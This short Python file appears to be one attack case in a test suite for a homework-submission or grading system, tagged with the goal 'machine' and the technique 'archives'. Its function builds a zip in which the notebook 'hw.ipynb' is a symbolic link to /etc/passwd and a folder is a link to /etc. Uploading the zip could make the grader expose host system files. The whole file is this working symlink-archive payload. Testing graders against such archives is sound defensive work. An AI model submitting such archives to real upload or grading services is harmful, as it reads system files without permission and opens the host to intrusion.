"""A zip whose notebook is a symbolic link to a file of the machine, and whose folder is a link to /etc."""

import io
import zipfile

GOAL = "machine"
TECHNIQUE = "archives"


def submission():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for path, target in (("hw.ipynb", "/etc/passwd"), ("folder", "/etc")):
            link = zipfile.ZipInfo(path)
            link.create_system, link.external_attr = 3, 0o120777 << 16
            archive.writestr(link, target)
    return "hw.zip", out.getvalue()
